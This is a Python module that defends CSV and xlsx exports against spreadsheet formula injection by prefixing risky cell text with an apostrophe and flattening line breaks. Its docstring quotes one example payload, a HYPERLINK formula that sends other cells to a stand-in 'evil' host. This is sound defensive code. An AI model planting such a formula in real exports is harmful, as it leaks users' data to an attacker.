"""Cell values that are safe to put into CSV and xlsx exports.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, a tab or carriage return followed by one of them) as a formula. A title
like ``=HYPERLINK("http://evil/?"&A1)`` would then leak other cells when the export is
opened. ``safe_cell`` prefixes such text with an apostrophe, which spreadsheets show as a
text marker, and flattens line breaks so that one record stays on one row.
"""

from __future__ import annotations

from datetime import date, datetime
from typing import Any

_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""ASCII triggers plus their full-width forms, which some spreadsheet programs also evaluate."""


def safe_cell(value: Any) -> str | int | float | bool:
    """Convert ``value`` for one CSV or xlsx cell.

    Numbers and booleans pass through unchanged (they cannot carry a formula); datetimes
    become ISO 8601 text; None becomes an empty string. Text that begins with a formula
    trigger gets a leading apostrophe, and CR/LF become spaces.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    if text.startswith(_FORMULA_PREFIXES):
        text = "'" + text
    return text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")


def safe_row(values: list[Any]) -> list[str | int | float | bool]:
    """Apply ``safe_cell`` to every value of one row."""
    return [safe_cell(value) for value in values]
